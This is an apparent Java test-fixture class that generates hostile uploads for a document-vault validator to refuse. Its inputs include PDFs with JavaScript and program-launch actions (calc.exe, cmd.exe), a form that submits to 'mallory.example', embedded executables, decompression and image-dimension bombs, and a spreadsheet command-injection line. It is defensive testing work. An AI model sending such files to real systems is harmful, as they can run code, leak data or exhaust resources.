package org.pidesk.vault;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.BitSet;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.stream.MemoryCacheImageOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.pidesk.HostilePaper;
import org.pidesk.OnePage;

/** Files of every kind that somebody might try in the place of a paper, made as they are asked for. */
final class HostileFiles {
    private static final int MEGABYTE = 1024 * 1024;

    private HostileFiles() {}

    interface Making {
        byte[] make() throws IOException;
    }

    /** None of these may be kept. */
    static Map<String, Making> toBeRefused() {
        var files = new LinkedHashMap<String, Making>();
        for (var known : HostilePaper.values()) {
            files.put(known.name(), known::document);
        }
        otherTypes(files);
        programsInPdfs(files);
        brokenPdfs(files);
        lockedPdfs(files);
        bombs(files);
        brokenPictures(files);
        return files;
    }

    /** What is told by its first bytes: alone, with a PDF behind it, and with the ending of a picture. */
    private static void otherTypes(Map<String, Making> files) {
        var beginnings = new LinkedHashMap<String, String>();
        beginnings.put("GIF", "474946383961");
        beginnings.put("BMP", "424D");
        beginnings.put("TIFF", "49492A00");
        beginnings.put("WEBP", "524946461000000057454250");
        beginnings.put("ICO", "00000100");
        beginnings.put("PSD", "38425053");
        beginnings.put("ZIP", "504B0304");
        beginnings.put("RAR", "526172211A0700");
        beginnings.put("7Z", "377ABCAF271C");
        beginnings.put("GZIP", "1F8B08");
        beginnings.put("XZ", "FD377A585A00");
        beginnings.put("Windows program", "4D5A9000");
        beginnings.put("Linux program", "7F454C46");
        beginnings.put("Java class", "CAFEBABE00000037");
        beginnings.put("old Office", "D0CF11E0A1B11AE1");
        beginnings.put("RTF", "7B5C72746631");
        beginnings.put("PostScript", "252150532D41646F6265");
        beginnings.put("MP4", "0000001866747970");
        beginnings.put("Flash", "435753");
        beginnings.put("WebAssembly", "0061736D01000000");
        beginnings.put("serialized object", "ACED0005");
        beginnings.put(
                "HTML",
                HexFormat.of().formatHex("<html><script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put(
                "XML",
                HexFormat.of().formatHex("<?xml version=\"1.0\"?><!DOCTYPE x>".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("shell", HexFormat.of().formatHex("#!/bin/sh\nid\n".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("batch", HexFormat.of().formatHex("@echo off\r\n".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("table", HexFormat.of().formatHex("=cmd|' /C calc'!A0,1\n".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("shortcut", "4C00000001140200");
        beginnings.put("mail", HexFormat.of().formatHex("From: x\r\n\r\nx".getBytes(StandardCharsets.US_ASCII)));
        beginnings.put("empty lines", "0A0A0A0A");
        beginnings.put("mark of order", "EFBBBF");
        beginnings.forEach((name, hex) -> {
            var bytes = HexFormat.of().parseHex(hex);
            files.put(name, () -> Arrays.copyOf(bytes, bytes.length + 100));
            files.put(name + " before a PDF", () -> joined(bytes, OnePage.pdf()));
            files.put(name + " before a PNG", () -> joined(bytes, OnePage.picture("png")));
        });
    }

    private static void programsInPdfs(Map<String, Making> files) {
        var root = new LinkedHashMap<String, String>();
        root.put("JavaScript as it opens", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>");
        root.put("JavaScript under an escaped name", "/OpenAction << /S /J#61vaScript /#4A#53 (x) >>");
        root.put("JavaScript as it closes", "/AA << /WC << /S /JavaScript /JS (x) >> >>");
        root.put("JavaScript by name", "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (x) >>] >> >>");
        root.put(
                "JavaScript in an action after an action",
                "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>");
        root.put("start of a program", "/OpenAction << /S /Launch /F (calc.exe) >>");
        root.put("start of a program on Windows", "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>");
        root.put("other file, opened", "/OpenAction << /S /GoToR /F (\\\\\\\\mallory.example\\\\x.pdf) /D [0 /Fit] >>");
        root.put("file within, opened", "/OpenAction << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>");
        root.put("form that sends itself", "/OpenAction << /S /SubmitForm /F (https://mallory.example/) >>");
        root.put("data read in", "/OpenAction << /S /ImportData /F (x.fdf) >>");
        root.put("form of XFA", "/AcroForm << /Fields [] /XFA 6 0 R >>");
        root.put("form of XFA in parts", "/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>");
        root.put("film that runs", "/OpenAction << /S /Rendition /OP 4 /JS (x) >>");
        root.put("rich media", "/OpenAction << /S /RichMediaExecute /CMD << /C (x) >> >>");
        root.put(
                "files within",
                "/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>] >> >>");
        root.put(
                "files of a portfolio",
                "/Collection << /View /D >> /AF [<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>]");
        // object 7 names a deed, and object 8 another file
        root.put("start of a program, named elsewhere", "/OpenAction << /S 7 0 R /F (calc.exe) >>");
        root.put("file of a kind named elsewhere", "/OpenAction << /Type 8 0 R >>");
        root.forEach((name, entries) -> files.put("PDF: " + name, () -> pdf(entries, "")));
        var page = new LinkedHashMap<String, String>();
        page.put("JavaScript on a page", "/AA << /O << /S /JavaScript /JS (x) >> >>");
        page.put(
                "JavaScript on a button",
                "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /JavaScript /JS (x) >> >>]");
        page.put(
                "file on a page",
                "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.exe) /EF << /F 6 0 R >> >> >>]");
        page.put(
                "start of a program on a page",
                "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>]");
        page.put(
                "rich media on a page",
                "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]");
        page.put(
                "body that runs",
                "/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD << /Type /3D /Subtype /U3D /OnInstantiate 6 0 R >> >>]");
        page.put(
                "screen",
                "/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /JS (x) >> >>]");
        page.put(
                "other file on a page",
                "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (x.pdf) /D [0 /Fit] >> >>]");
        files.put(
                "PDF: JavaScript at a root within the trailer",
                () -> pdf("", "", "/Root << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"));
        page.forEach((name, entries) -> files.put("PDF: " + name, () -> pdf("", entries)));
    }

    private static void brokenPdfs(Map<String, Making> files) {
        files.put(
                "PDF: whose pages go round",
                () -> ascii(
                        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                                + "2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
        files.put(
                "PDF: whose contents go round",
                () -> ascii("%PDF-1.7\n1 0 obj\n1 0 R\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
        files.put(
                "PDF: with a password",
                () -> ascii(
                        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                                + "trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> >>\n%%EOF"));
        files.put(
                "PDF: of words deep down",
                () -> ascii("%PDF-1.7\n1 0 obj\n" + "<< /A ".repeat(200_000) + "\nendobj\ntrailer << /Root 1 0 R >>"));
        files.put("PDF: that begins too late", () -> joined(new byte[2_000], OnePage.pdf()));
        for (var part : new int[] {5, 9, 20, 60}) {
            files.put("PDF: cut off after " + part, () -> Arrays.copyOf(OnePage.pdf(), part));
        }
        files.put("PDF: above what is taken", () -> Arrays.copyOf(OnePage.pdf(), 5 * MEGABYTE + 1));
        files.put("noise", () -> {
            var noise = new byte[MEGABYTE];
            new Random(7).nextBytes(noise);
            return noise;
        });
        files.put("one byte", () -> new byte[] {'%'});
    }

    private static void lockedPdfs(Map<String, Making> files) {
        files.put("PDF: locked, with an empty password", () -> locked(0));
        files.put("bomb that is locked, with an empty password", () -> locked(150));
    }

    private static void bombs(Map<String, Making> files) {
        var zeros = folded(150);
        files.put("bomb as it is", () -> objects(zeros, "/FlateDecode"));
        files.put("bomb whose beginning is overwritten", () -> objects(headless(zeros), "/FlateDecode"));
        files.put("bomb whose way is named elsewhere", () -> objects(zeros, "2 0 R"));
        files.put("bomb that lies in wait on a page", () -> withFolded(150));
        files.put(
                "bomb of lines",
                () -> objects(folded(1), "/FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 >>"));
        files.put(
                "bomb of small objects",
                () -> objects(folded("[]".repeat(8 * MEGABYTE).getBytes(StandardCharsets.US_ASCII)), "/FlateDecode"));
        files.put("bomb that is drawn", () -> objects(jpeg(65_500, 65_500), "/DCTDecode"));
        files.put("bomb of places", () -> places("/W [1 1 0] /Index [0 20000000]", folded(20)));
        files.put("bomb of places without a width", () -> places("/W [0 0 0] /Index [0 2000000000]", folded(1)));
        files.put("bomb in two layers", () -> objects(folded(zeros), "[/FlateDecode /FlateDecode]"));
        files.put("bomb written in hexadecimal", () -> objects(hex(zeros), "[/ASCIIHexDecode /FlateDecode]"));
        files.put("bomb under short names", () -> objects(hex(zeros), "[/AHx /Fl]"));
        files.put(
                "bomb under escaped names",
                () -> objects(hex(zeros), "[/#41HexDecode#20 /ASCII#48exDecode /FlateDecode]"));
        files.put("bomb written in base 85", () -> objects(base85(zeros), "[/ASCII85Decode /FlateDecode]"));
        files.put("bomb of repeated bytes", () -> objects(repeated(4 * MEGABYTE), "/RunLengthDecode"));
        files.put(
                "bomb of repeated bytes, folded",
                () -> objects(folded(repeated(MEGABYTE)), "[/FlateDecode /RunLengthDecode]"));
        files.put("bomb of LZW", () -> objects(lzw(), "/LZWDecode"));
        files.put("bomb of LZW, folded", () -> objects(folded(lzw()), "[/FlateDecode /LZWDecode]"));
    }

    private static void brokenPictures(Map<String, Making> files) {
        for (var format : new String[] {"png", "jpeg"}) {
            for (var part : new int[] {4, 12, 25, 33, 45}) {
                files.put(format + " cut off after " + part, () -> Arrays.copyOf(OnePage.picture(format), part));
            }
        }
        files.put("PNG of four thousand million dots", () -> png(65_000, 65_000));
        files.put("PNG of one endless line", () -> png(Integer.MAX_VALUE, 1));
        files.put("PNG of one endless column", () -> png(1, Integer.MAX_VALUE));
        files.put("PNG of one long line, two bytes a colour", () -> deep(4_000_000, 1));
        files.put("PNG of too many bytes a dot", () -> deep(6_000, 6_000));
        files.put("JPEG large, in a hundred scans", () -> progressive(4_000, 100));
        files.put("JPEG in a thousand scans", () -> progressive(1_000, 1_000));
        files.put("PNG of no dots", () -> png(0, 0));
        files.put("PNG of less than none", () -> png(-1, -1));
        files.put("PNG just above", () -> png(7_072, 7_072));
        files.put("JPEG of four thousand million dots", () -> jpeg(65_500, 65_500));
        files.put("JPEG of no dots", () -> jpeg(0, 0));
        files.put(
                "PNG that is a page",
                () -> joined(HexFormat.of().parseHex("89504E470D0A1A0A"), ascii("<html><script>x</script>")));
        files.put(
                "JPEG that is a page",
                () -> joined(HexFormat.of().parseHex("FFD8FFE0"), ascii("<html><script>x</script>")));
        files.put("picture above what is taken", () -> Arrays.copyOf(OnePage.picture("png"), 5 * MEGABYTE + 1));
    }

    /** A PDF of one page, with more at its root or on its page; object 6 is some words, 7 and 8 are names. */
    static byte[] pdf(String root, String page) {
        return pdf(root, page, "/Root 1 0 R");
    }

    private static byte[] pdf(String root, String page, String trailer) {
        return ascii("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + root + " >>\nendobj\n"
                + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + " >>\nendobj\n"
                + "6 0 obj\n<< /Length 5 >>\nstream\nhello\nendstream\nendobj\n"
                + "7 0 obj\n/Launch\nendobj\n8 0 obj\n/EmbeddedFile\nendobj\n"
                + "trailer << " + trailer + " /Size 9 >>\n%%EOF");
    }

    /** A PDF of one page, on which so much is folded. */
    static byte[] withFolded(int megabytes) throws IOException {
        try (var document = new PDDocument()) {
            var page = new PDPage();
            document.addPage(page);
            var words = new PDStream(document);
            try (var out = words.getCOSObject().createRawOutputStream()) {
                out.write(folded(megabytes));
            }
            words.getCOSObject().setItem(COSName.FILTER, COSName.FLATE_DECODE);
            page.setContents(words);
            return written(document);
        }
    }

    private static byte[] locked(int megabytes) throws IOException {
        try (var document = Loader.loadPDF(withFolded(megabytes))) {
            document.protect(new StandardProtectionPolicy("owner", "", new AccessPermission()));
            return written(document);
        }
    }

    private static byte[] written(PDDocument document) throws IOException {
        var bytes = new ByteArrayOutputStream();
        document.save(bytes, CompressParameters.NO_COMPRESSION);
        return bytes.toByteArray();
    }

    /** A PDF whose objects are folded in such a way. */
    private static byte[] objects(byte[] folded, String how) {
        return joined(
                joined(
                        ascii("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + how + " /Length "
                                + folded.length + " >>\nstream\n"),
                        folded),
                ascii("\nendstream\nendobj\n2 0 obj\n/FlateDecode\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
    }

    /** A PDF that says in such a way where its objects stand. */
    private static byte[] places(String how, byte[] folded) {
        return joined(
                joined(
                        ascii("%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size 20000000 /Root 2 0 R " + how
                                + " /Filter /FlateDecode /Length " + folded.length + " >>\nstream\n"),
                        folded),
                ascii("\nendstream\nendobj\nstartxref\n9\n%%EOF"));
    }

    /** What unfolds it may pass over the first two bytes. */
    private static byte[] headless(byte[] folded) {
        var bytes = folded.clone();
        bytes[0] = 'A';
        bytes[1] = 'A';
        return bytes;
    }

    private static byte[] folded(int megabytes) {
        var bytes = new ByteArrayOutputStream();
        try (var folding = new DeflaterOutputStream(bytes)) {
            for (int i = 0; i < megabytes; i++) {
                folding.write(new byte[MEGABYTE]);
            }
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] folded(byte[] plain) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var folding = new DeflaterOutputStream(bytes)) {
            folding.write(plain);
        }
        return bytes.toByteArray();
    }

    private static byte[] hex(byte[] plain) {
        return ascii(HexFormat.of().formatHex(plain) + ">");
    }

    private static byte[] base85(byte[] plain) {
        var text = new StringBuilder();
        for (int at = 0; at + 4 <= plain.length; at += 4) {
            var four = Integer.toUnsignedLong(ByteBuffer.wrap(plain, at, 4).getInt());
            var five = new char[5];
            for (int i = 4; i >= 0; i--) {
                five[i] = (char) ('!' + four % 85);
                four /= 85;
            }
            text.append(five);
        }
        return ascii(text + "~>");
    }

    /** Two bytes for 128 of them. */
    private static byte[] repeated(int length) {
        var bytes = new byte[length];
        for (int i = 0; i < length; i += 2) {
            bytes[i] = (byte) 129;
        }
        return bytes;
    }

    /** Each code stands for one zero more than the one before it. */
    private static byte[] lzw() {
        var bits = new BitSet();
        var at = new int[1];
        for (int round = 0; round < 500; round++) {
            code(bits, at, 256, 9);
            code(bits, at, 0, 9);
            for (int next = 258; next < 4_094; next++) {
                code(bits, at, next, width(next));
            }
        }
        var bytes = new byte[at[0] / 8 + 1];
        for (int i = 0; i < at[0]; i++) {
            if (bits.get(i)) {
                bytes[i / 8] |= (byte) (128 >> i % 8);
            }
        }
        return bytes;
    }

    private static int width(int code) {
        return code < 511 ? 9 : code < 1_023 ? 10 : code < 2_047 ? 11 : 12;
    }

    private static void code(BitSet bits, int[] at, int code, int width) {
        for (int i = width - 1; i >= 0; i--) {
            bits.set(at[0]++, (code >> i & 1) == 1);
        }
    }

    private static byte[] png(int width, int height) {
        var picture = OnePage.picture("png");
        ByteBuffer.wrap(picture).putInt(16, width).putInt(20, height);
        var sum = new CRC32();
        sum.update(picture, 12, 17);
        ByteBuffer.wrap(picture).putInt(29, (int) sum.getValue());
        return picture;
    }

    /** A PNG of two bytes a colour, and all its dots. */
    static byte[] deep(int width, int height) throws IOException {
        var header = ByteBuffer.allocate(13).putInt(width).putInt(height).put(new byte[] {16, 6, 0, 0, 0});
        var dots = new ByteArrayOutputStream();
        try (var folding = new DeflaterOutputStream(dots)) {
            var line = new byte[1 + 8 * width];
            for (int i = 0; i < height; i++) {
                folding.write(line);
            }
        }
        var beginning = HexFormat.of().parseHex("89504E470D0A1A0A");
        return joined(
                joined(beginning, chunk("IHDR", header.array())),
                joined(chunk("IDAT", dots.toByteArray()), chunk("IEND", new byte[0])));
    }

    private static byte[] chunk(String name, byte[] content) {
        var named = joined(ascii(name), content);
        var sum = new CRC32();
        sum.update(named);
        return ByteBuffer.allocate(named.length + 8)
                .putInt(content.length)
                .put(named)
                .putInt((int) sum.getValue())
                .array();
    }

    /** A JPEG that becomes clear bit by bit, and the last bit comes so many times more. */
    static byte[] progressive(int side, int more) throws IOException {
        var bytes = new ByteArrayOutputStream();
        var writer = ImageIO.getImageWritersByFormatName("jpeg").next();
        try (var out = new MemoryCacheImageOutputStream(bytes)) {
            writer.setOutput(out);
            var bitByBit = writer.getDefaultWriteParam();
            bitByBit.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
            var picture = new BufferedImage(side, side, BufferedImage.TYPE_BYTE_GRAY);
            writer.write(null, new IIOImage(picture, null, null), bitByBit);
        } finally {
            writer.dispose();
        }
        var once = bytes.toByteArray();
        var last = once.length - 2;
        while (once[last] != (byte) 0xFF || once[last + 1] != (byte) 0xDA) {
            last--;
        }
        var end = new ByteArrayOutputStream();
        end.write(once, 0, once.length - 2);
        for (int i = 0; i < more; i++) {
            end.write(once, last, once.length - 2 - last);
        }
        end.write(once, once.length - 2, 2);
        return end.toByteArray();
    }

    private static byte[] jpeg(int width, int height) {
        var picture = OnePage.picture("jpeg");
        for (int i = 0; i < picture.length - 9; i++) {
            if ((picture[i] & 255) == 0xFF && (picture[i + 1] & 255) == 0xC0) {
                ByteBuffer.wrap(picture).putShort(i + 5, (short) height).putShort(i + 7, (short) width);
            }
        }
        return picture;
    }

    static byte[] joined(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
